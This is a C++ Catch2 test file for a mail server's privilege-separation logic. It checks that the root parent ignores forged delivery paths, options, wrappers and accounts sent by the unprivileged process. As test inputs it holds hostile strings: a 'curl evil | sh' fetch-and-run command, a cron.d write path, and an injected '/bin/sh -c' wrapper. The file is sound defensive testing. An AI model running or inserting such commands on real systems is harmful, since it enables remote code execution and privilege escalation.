// What the root parent makes of a delivery request from the unprivileged
// process (delivery/rederive.hpp): the action, its path, options and wrapper
// come from the parent's configuration, never from the request; an
// expansion's files and commands never run as root; relay agents run as the
// unprivileged user.
#include "delivery/rederive.hpp"

#include <catch2/catch.hpp>

using postern::delivery::Item;
using postern::delivery::Job;
using postern::delivery::rederive;

namespace {

const postern::config::Config& config() {
    static const auto parsed = postern::config::parse_text(
        "table aliases { root = bob }\n"
        "mda wrapper guard \"/usr/bin/timeout 60 %{mda}\"\n"
        "action \"box\" maildir \"~/Mail/%{dest.domain}\" junk alias <aliases>\n"
        "action \"spool\" mbox alias <aliases>\n"
        "action \"cmd\" mda \"/usr/bin/procmail -d %{user.username}\" wrapper guard\n"
        "action \"out\" relay\n"
        "match from any for domain \"example.com\" action \"box\"\n"
        "match from any for domain \"spool.example\" action \"spool\"\n"
        "match from any for domain \"cmd.example\" action \"cmd\"\n"
        "match from any for any action \"out\"\n",
        "rederive_test.conf");
    INFO((parsed.errors.empty() ? "" : parsed.errors.front().message));
    REQUIRE(parsed.config);
    return *parsed.config;
}

Item item(std::string path, bool expanded = false) {
    Item i{"a@example.org", "bob@example.com", "bob@example.com", std::move(path), "0123abcd", "", "", ""};
    i.expanded = expanded;
    return i;
}

Job job(std::string action, std::string method, std::vector<Item> items) {
    Job j;
    j.action = std::move(action);
    j.method = std::move(method);
    j.user = "bob";
    j.account = "1000:1000:/home/bob";
    j.options = "forged options";
    j.secret = "auth=forged";
    j.wrapper = "/bin/sh -c 'id' %{mda}";
    j.items = std::move(items);
    return j;
}

}  // namespace

TEST_CASE("rederive: an action's own delivery gets the action's path, options and wrapper, not the request's") {
    Job j = job("box", "maildir", {item("/etc/cron.d/evil"), item("")});
    CHECK(rederive(config(), &j) == "");
    CHECK(j.items[0].path == "~/Mail/%{dest.domain}");
    CHECK(j.items[1].path == "~/Mail/%{dest.domain}");
    CHECK(j.options == "junk");
    CHECK(j.secret.empty());
    CHECK(j.wrapper.empty());
    CHECK(j.user == "bob");
    CHECK(j.account == "1000:1000:/home/bob");

    Job c = job("cmd", "mda", {item("/bin/sh -c 'curl evil | sh'")});
    CHECK(rederive(config(), &c) == "");
    CHECK(c.items[0].path == "/usr/bin/procmail -d %{user.username}");
    CHECK(c.wrapper == "/usr/bin/timeout 60 %{mda}");
    CHECK(c.options.empty());
}

TEST_CASE("rederive: an unknown action or another method than the action's is refused") {
    Job unknown = job("nothere", "maildir", {item("")});
    CHECK(rederive(config(), &unknown) == "no action named \"nothere\" in the configuration");
    Job other = job("box", "mda", {item("/bin/id")});
    CHECK(rederive(config(), &other) == "action box delivers by maildir, not mda");
}

TEST_CASE("rederive: an expansion's file or command is taken, never as root, and only as mbox or mda") {
    Job file = job("box", "mbox", {item("/home/bob/archive", true)});
    CHECK(rederive(config(), &file) == "");
    CHECK(file.items[0].path == "/home/bob/archive");
    CHECK(file.options.empty());  // junk is the maildir action's own option

    Job cmd = job("box", "mda", {item("/usr/bin/vacation bob", true)});
    CHECK(rederive(config(), &cmd) == "");
    CHECK(cmd.items[0].path == "/usr/bin/vacation bob");

    for (const char* account : {"0:1000:/root", "1000:0:/home/bob", "00:5:/x"}) {
        Job root = job("box", "mda", {item("/bin/id", true)});
        root.account = account;
        INFO(account);
        CHECK(rederive(config(), &root) == "refusing to run a file or command of an expansion as uid/gid 0");
    }
    Job nobody = job("box", "mda", {item("/bin/id", true)});
    nobody.account = "";
    CHECK(rederive(config(), &nobody) == "a file or command of an expansion needs its account");

    Job maildir = job("box", "maildir", {item("/tmp/x", true)});
    CHECK(rederive(config(), &maildir) == "an expansion makes files and commands only, not maildir");
    Job relative = job("spool", "mbox", {item("etc/passwd", true)});
    CHECK(rederive(config(), &relative) == "an expansion's file must be given as an absolute path");
    Job empty = job("box", "mda", {item("", true)});
    CHECK(rederive(config(), &empty) == "an expansion's command must be given");

    // One batch of an mbox action may hold its own mailbox and an alias's file.
    Job mixed = job("spool", "mbox", {item("/var/mail/forged"), item("/home/bob/archive", true)});
    CHECK(rederive(config(), &mixed) == "");
    CHECK(mixed.items[0].path == "");
    CHECK(mixed.items[1].path == "/home/bob/archive");
}

TEST_CASE("rederive: a relay runs as the unprivileged user, with its route and credentials, and expands nothing") {
    Job r = job("out", "relay", {item("smtp://mx.example.org")});
    r.user = "root";
    r.account = "0:0:/root";
    r.options = "tls=yes";
    r.secret = "auth=user:pass";
    CHECK(rederive(config(), &r) == "");
    CHECK(r.user == "_postern");
    CHECK(r.account.empty());
    CHECK(r.items[0].path == "smtp://mx.example.org");
    CHECK(r.options == "tls=yes");
    CHECK(r.secret == "auth=user:pass");
    CHECK(r.wrapper.empty());

    Job as_mda = job("out", "mda", {item("/bin/id", true)});
    CHECK(rederive(config(), &as_mda) == "action out relays");
    Job expanded = job("out", "relay", {item("/bin/id", true)});
    CHECK(rederive(config(), &expanded) == "action out relays, it expands nothing");
}
